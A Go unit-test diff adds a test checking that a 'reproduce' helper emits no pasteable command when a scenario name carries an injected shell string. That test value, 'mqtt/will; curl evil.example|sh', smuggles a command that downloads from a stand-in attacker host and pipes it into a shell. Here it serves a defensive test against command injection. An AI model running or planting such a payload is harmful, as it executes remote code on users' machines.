@@ -112,3 +112,11 @@ func TestHealedEarlyIsInPart(t *testing.T) {
 		t.Error("report.md calls it landed, or does not say why it is not")
 	}
 }
+
+// The name of a stranger's scenario is no part of a command that people paste.
+func TestReproduceNamesNoProgram(t *testing.T) {
+	again := reproduce(&history.Run{Scenario: "mqtt/will; curl evil.example|sh"}, asked{})
+	if again.Command != "" || len(again.NotChosen) != 1 {
+		t.Errorf("%+v", again)
+	}
+}
